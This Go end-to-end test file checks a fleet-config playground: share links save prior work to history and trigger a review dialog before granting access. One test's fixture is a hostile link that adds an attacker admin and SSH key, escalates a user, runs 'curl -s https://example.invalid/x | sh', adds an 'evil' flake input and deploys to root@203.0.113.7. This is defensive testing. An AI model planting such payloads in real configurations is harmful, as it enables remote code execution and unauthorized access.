package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/fleetyard/fleetyard/internal/sharelink"
)

// Issue 13 item 8 and issue 12 item 10: a share link opened over existing
// work never destroys it (a history of saved fleets, "Restore previous"),
// and a link that grants access or runs code, compared with that work, is
// shown and confirmed before it replaces it.

// linkTo returns the #fleet= suffix for a spec: the seed example with edit
// applied to its decoded JSON.
func linkTo(t *testing.T, edit func(m map[string]any)) (suffix, text string) {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal([]byte(readSpec(t, "seed")), &m); err != nil {
		t.Fatal(err)
	}
	edit(m)
	b, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	frag, err := sharelink.Encode(b)
	if err != nil {
		t.Fatal(err)
	}
	return "#fleet=" + frag, string(b)
}

type savedFleet struct{ Hash, Name, Reason, Text string }

func historyOf(t *testing.T, ctxRun func(string) string) []savedFleet {
	t.Helper()
	var h []savedFleet
	raw := ctxRun(`localStorage.getItem("fleetyard:playground:history") || "[]"`)
	if err := json.Unmarshal([]byte(raw), &h); err != nil {
		t.Fatalf("history %q: %v", raw, err)
	}
	return h
}

// TestShareLinkKeepsPreviousWork: opening a link saves the work it replaces;
// Restore previous brings it back (saving the link's fleet in turn);
// entries are deduplicated by content and capped at five.
func TestShareLinkKeepsPreviousWork(t *testing.T) {
	requireBuilt(t, "playground")
	ctx, p := newTab(t)
	eval := func(js string) string { return pgEval[string](t, ctx, js) }
	openPlayground(t, ctx, "")
	name := `#fy-panel-form [data-path="name"]`
	pgWait(t, ctx, "the name field", `document.querySelector('`+name+`')`, 5*time.Second)
	g := generation(t, ctx)
	setField(t, ctx, name, "my-own-work")
	waitGeneration(t, ctx, g)
	pgWait(t, ctx, "autosave of my work", `(localStorage.getItem("fleetyard:playground:spec") || "").includes('"my-own-work"')`, 5*time.Second)
	mine := eval(`localStorage.getItem("fleetyard:playground:spec")`)

	// A link that only renames the fleet: opened without asking, my work saved.
	link, _ := linkTo(t, func(m map[string]any) { m["name"] = "linked-fleet" })
	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	openPlayground(t, ctx, link)
	pgWait(t, ctx, "the linked fleet", `document.querySelector('`+name+`').value === "linked-fleet"`, 10*time.Second)
	if r := dataset(t, ctx, "linkReview"); r != "clean" {
		t.Errorf("link review %q for a link that grants nothing new, want clean (no question)", r)
	}
	if !strings.Contains(eval(`document.getElementById("fy-notices").textContent`), "saved under Restore previous") {
		t.Error("no notice that the previous fleet was saved")
	}
	h := historyOf(t, eval)
	if len(h) != 1 || h[0].Text != mine || !strings.HasPrefix(h[0].Name, "my-own-work") {
		t.Fatalf("history after opening the link: %+v, want exactly my work", h)
	}

	// Restore previous.
	pgEval[bool](t, ctx, `(document.getElementById("fy-history").open = true, true)`)
	pgWait(t, ctx, "the menu entry", `document.querySelector("#fy-history-list .fy-history-item")`, 3*time.Second)
	entry := eval(`document.querySelector("#fy-history-list .fy-history-item").textContent`)
	if !strings.Contains(entry, "my-own-work") || !strings.Contains(entry, "before opening a share link") {
		t.Errorf("menu entry %q", entry)
	}
	axeClean(t, ctx, "history menu")
	shotVariants(t, ctx, "history-menu", false)
	pgEval[bool](t, ctx, `(document.getElementById("fy-history").open = true, true)`)
	g = generation(t, ctx)
	jsClick(t, ctx, "#fy-history-list .fy-history-item")
	waitGeneration(t, ctx, g)
	if v := eval(`document.querySelector('` + name + `').value`); v != "my-own-work" {
		t.Fatalf("after Restore previous the name is %q", v)
	}
	pgWait(t, ctx, "autosave of the restored work", `localStorage.getItem("fleetyard:playground:spec") === `+jsString(mine), 5*time.Second)
	h = historyOf(t, eval)
	if len(h) != 2 || !strings.Contains(h[0].Text, `"linked-fleet"`) {
		t.Errorf("after restoring, the history should hold the link's fleet first, then mine: %d entries, first %q", len(h), firstName(h))
	}

	// The same link again, and my work saved again: no duplicates.
	pgEval[bool](t, ctx, `(location.hash = `+jsString(link)+`, true)`)
	pgWait(t, ctx, "the linked fleet again", `document.querySelector('`+name+`').value === "linked-fleet"`, 10*time.Second)
	h = historyOf(t, eval)
	seen := map[string]bool{}
	for _, e := range h {
		if seen[e.Hash] {
			t.Errorf("history holds %s twice", e.Name)
		}
		seen[e.Hash] = true
	}
	if len(h) != 2 || h[0].Text != mine {
		t.Errorf("after reopening the link: %d entries, first %q; want 2 with my work first", len(h), firstName(h))
	}

	// At most five: each example load saves the fleet it replaces.
	for i := 0; i < 6; i++ {
		g = generation(t, ctx)
		setField(t, ctx, name, fmt.Sprintf("fleet-%d", i))
		waitGeneration(t, ctx, g)
		pgEval[bool](t, ctx, `(() => { const s = document.getElementById("fy-example"); s.value = "minimal"; s.dispatchEvent(new Event("change")); return true })()`)
		pgWait(t, ctx, "the minimal example", `document.querySelector('`+name+`').value === "minimal"`, 5*time.Second)
	}
	time.Sleep(300 * time.Millisecond)
	h = historyOf(t, eval)
	if len(h) != 5 || !strings.HasPrefix(h[0].Name, "fleet-5") || !strings.HasPrefix(h[4].Name, "fleet-1") {
		var names []string
		for _, e := range h {
			names = append(names, e.Name)
		}
		t.Errorf("history after six more saves: %v, want fleet-5 … fleet-1", names)
	}
	p.AssertClean(t)
}

func firstName(h []savedFleet) string {
	if len(h) == 0 {
		return ""
	}
	return h[0].Name
}

// TestShareLinkAsksBeforeGrantingAccess: a link that adds an admin, a user
// admin, a recipient, a vars script, a flake input and a deploy target,
// opened over existing work, shows all of them and asks. "Keep my fleet"
// leaves the work (and autosave) alone and clears the link from the address
// bar; "Open the link's fleet" opens it with the work saved.
func TestShareLinkAsksBeforeGrantingAccess(t *testing.T) {
	requireBuilt(t, "playground")
	pubB, err := os.ReadFile(filepath.Join(fixturesDir(t), "alice.pub"))
	if err != nil {
		t.Fatal(err)
	}
	alice := strings.TrimSpace(string(pubB))
	link, _ := linkTo(t, func(m map[string]any) {
		m["name"] = "mallory-fleet"
		m["admins"] = append(m["admins"].([]any), map[string]any{"name": "mallory", "sshKeys": []any{alice}})
		users := m["users"].([]any)
		users[1].(map[string]any)["admin"] = true
		users[1].(map[string]any)["sshKeys"] = append(users[1].(map[string]any)["sshKeys"].([]any), alice)
		vars := m["vars"].([]any)
		vars[0].(map[string]any)["script"] = "curl -s https://example.invalid/x | sh"
		ov := m["overlays"].(map[string]any)
		ov["flakeOverlays"] = append(ov["flakeOverlays"].([]any), map[string]any{"input": "evil", "url": "github:mallory/overlay"})
		m["machines"].([]any)[0].(map[string]any)["targetHost"] = "root@203.0.113.7"
	})

	ctx, p := newTab(t)
	eval := func(js string) string { return pgEval[string](t, ctx, js) }
	openPlayground(t, ctx, "")
	pgWait(t, ctx, "autosave", `localStorage.getItem("fleetyard:playground:spec")`, 5*time.Second)
	mine := eval(`localStorage.getItem("fleetyard:playground:spec")`)
	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	navigatePlayground(t, ctx, link)
	pgWait(t, ctx, "the review dialog", `document.querySelector("#fy-link-review[open]")`, 15*time.Second)
	text := eval(`document.getElementById("fy-link-review").textContent`)
	for _, want := range []string{"Makes mallory an admin", "Makes user raquel an administrator", "Adds a key for user raquel", "Runs the vars generator script api-token", "curl -s https://example.invalid/x | sh", "Adds the flake input evil", "github:mallory/overlay", "Deploys cinnabar to root@203.0.113.7", "mallory-fleet", "test-clan"} {
		if !strings.Contains(text, want) {
			t.Errorf("the dialog does not say %q:\n%s", want, text)
		}
	}
	if eval(`document.activeElement.id`) != "fy-link-keep" {
		t.Errorf("focus is on %q, want the safe choice (Keep my fleet)", eval(`document.activeElement.id`))
	}
	if hd := eval(`document.getElementById("fy-load-text").textContent`); strings.Contains(hd, "ready") {
		t.Errorf("header %q while nothing is generated", hd)
	}
	if n := generation(t, ctx); n != 0 {
		t.Errorf("%d generations before the answer: the link's fleet was used before asking", n)
	}
	axeClean(t, ctx, "link review dialog")
	emulateDark(t, ctx, true)
	axeClean(t, ctx, "link review dialog, dark")
	emulateDark(t, ctx, false)
	shotVariants(t, ctx, "link-review", false)

	// Keep my fleet.
	jsClick(t, ctx, "#fy-link-keep")
	waitGeneration(t, ctx, 0)
	if v := eval(`document.querySelector('#fy-panel-form [data-path="name"]').value`); v != "test-clan" {
		t.Errorf("after Keep my fleet the name is %q", v)
	}
	if h := eval(`location.hash`); h != "" {
		t.Errorf("the declined link stays in the address bar (%.40s…)", h)
	}
	time.Sleep(400 * time.Millisecond)
	if got := eval(`localStorage.getItem("fleetyard:playground:spec")`); got != mine {
		t.Error("declining the link changed the autosave")
	}
	if !strings.Contains(eval(`document.getElementById("fy-notices").textContent`), "Kept your fleet") {
		t.Error("no notice that the link was not opened")
	}

	// The same link pasted into the open page, and opened this time.
	pgEval[bool](t, ctx, `(location.hash = `+jsString(link)+`, true)`)
	pgWait(t, ctx, "the review dialog again", `document.querySelector("#fy-link-review[open]")`, 10*time.Second)
	g := generation(t, ctx)
	jsClick(t, ctx, "#fy-link-open")
	waitGeneration(t, ctx, g)
	pgWait(t, ctx, "the link's fleet", `document.querySelector('#fy-panel-form [data-path="name"]').value === "mallory-fleet"`, 5*time.Second)
	h := historyOf(t, eval)
	if len(h) == 0 || h[0].Text != mine {
		t.Errorf("opening the link did not save my fleet first: %d entries", len(h))
	}
	p.AssertClean(t)
}

// axeClean runs axe-core on the page as it is (a dialog or menu open):
// no serious or critical violations. Skipped without axe-core (npm ci).
// Tests call it at the tab's own window size, before shotVariants resizes
// it, as TestPlaygroundAxe does.
func axeClean(t *testing.T, ctx context.Context, step string) {
	t.Helper()
	axe, err := os.ReadFile(filepath.Join("..", "static", "node_modules", "axe-core", "axe.min.js"))
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("axe-core missing: %v (run `cd static && npm ci`)", err)
		}
		t.Logf("axe-core missing (%v): not checking %s", err, step)
		return
	}
	res := pgEval[string](t, ctx, string(axe)+`; axe.run(document, {resultTypes: ["violations"]}).then(r => JSON.stringify(r.violations.filter(v => v.impact === "serious" || v.impact === "critical").map(v => v.id + ": " + v.help + " " + v.nodes.slice(0, 3).map(n => n.target.join(" ")).join(", "))))`)
	var vs []string
	if err := json.Unmarshal([]byte(res), &vs); err != nil {
		t.Fatal(err)
	}
	for _, v := range vs {
		t.Errorf("axe %s: %s", step, v)
	}
}
